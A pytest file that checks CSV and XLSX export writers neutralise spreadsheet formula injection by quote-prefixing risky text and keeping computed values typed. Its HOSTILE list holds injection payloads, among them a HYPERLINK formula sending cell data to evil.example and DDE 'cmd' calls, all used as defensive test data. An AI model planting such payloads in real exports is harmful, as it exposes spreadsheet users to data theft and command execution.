"""Export writers: a text a spreadsheet would run as a formula stays text in CSV and XLSX; numbers,
flags and moments the export computed stay typed. XLSX is checked in the sheet XML itself, since
openpyxl reads a formula back as the same string it was given."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from xml.etree import ElementTree

import pytest

from chalicelib.services.exports import write_csv, write_xlsx

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def sheet_cells(body: bytes) -> list[dict]:
    """Every <c> of the first sheet: its type attribute, style, formula (if any) and text."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        root = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    xfs = styles.find(f"{MAIN}cellXfs").findall(f"{MAIN}xf")
    cells = []
    for c in root.iter(f"{MAIN}c"):
        formula = c.find(f"{MAIN}f")
        text = "".join(t.text or "" for t in c.iter(f"{MAIN}t"))
        value = c.find(f"{MAIN}v")
        xf = xfs[int(c.get("s", "0"))]
        cells.append({"ref": c.get("r"), "t": c.get("t"), "formula": None if formula is None else formula.text,
                      "text": text, "v": None if value is None else value.text,
                      "quote_prefix": xf.get("quotePrefix") == "1"})
    return cells


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_prefixes_every_text_a_spreadsheet_would_run_with_a_quote(value):
    rows = list(csv.reader(io.StringIO(write_csv(["name"], [[value]]))))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_writes_text_that_looks_like_a_formula_as_a_quote_prefixed_string_cell(value):
    cells = sheet_cells(write_xlsx("Laporan", ["name"], [[value]]))
    cell = next(c for c in cells if c["ref"] == "A2")
    assert cell["formula"] is None and cell["t"] == "inlineStr"
    assert cell["text"] == value.replace("\r", "\n")  # XML parsers read a raw CR as a line feed
    assert cell["quote_prefix"]


def test_xlsx_reads_back_as_text_with_openpyxl_too():
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(write_xlsx("Laporan", ["a", "b"], [HOSTILE[:2]]))).worksheets[0]
    assert [(c.data_type, c.value) for c in sheet[2]] == [("s", HOSTILE[0]), ("s", HOSTILE[1])]


def test_numbers_flags_and_moments_the_export_computed_stay_typed():
    row = [-3, 2.5, True, dt.date(2025, 1, 14), dt.datetime(2024, 12, 20, 10, 0), None, "Medan", "12.71"]
    cells = {c["ref"]: c for c in sheet_cells(write_xlsx("Laporan", list("abcdefgh"), [row]))}
    assert (cells["A2"]["t"], cells["A2"]["v"]) == ("n", "-3")  # a computed negative number is no text
    assert (cells["B2"]["t"], cells["C2"]["t"], cells["D2"]["t"]) == ("n", "b", "n")
    assert not any(cells[ref]["quote_prefix"] for ref in ("A2", "G2", "H2"))
    assert (cells["G2"]["t"], cells["H2"]["t"]) == ("inlineStr", "inlineStr")  # a code is text, not 12.71
    assert all(c["formula"] is None for c in cells.values())
    assert list(csv.reader(io.StringIO(write_csv(list("abcdefgh"), [row]))))[1] == [
        "-3", "2.5", "true", "2025-01-14", "2024-12-20 10:00:00", "", "Medan", "12.71"]


def test_characters_xml_cannot_carry_are_dropped_rather_than_failing_the_export():
    cells = sheet_cells(write_xlsx("Laporan", ["name"], [["Dinas\x0b Perhubungan\x00"]]))
    assert next(c for c in cells if c["ref"] == "A2")["text"] == "Dinas Perhubungan"


def test_a_lone_dash_the_exports_none_stays_as_it_is():
    """"-" marks "no agency / unit / category" in every export; alone it computes nothing."""
    assert list(csv.reader(io.StringIO(write_csv(["agency"], [["-"], ["-1+2"]])))) == [
        ["agency"], ["-"], ["'-1+2"]]
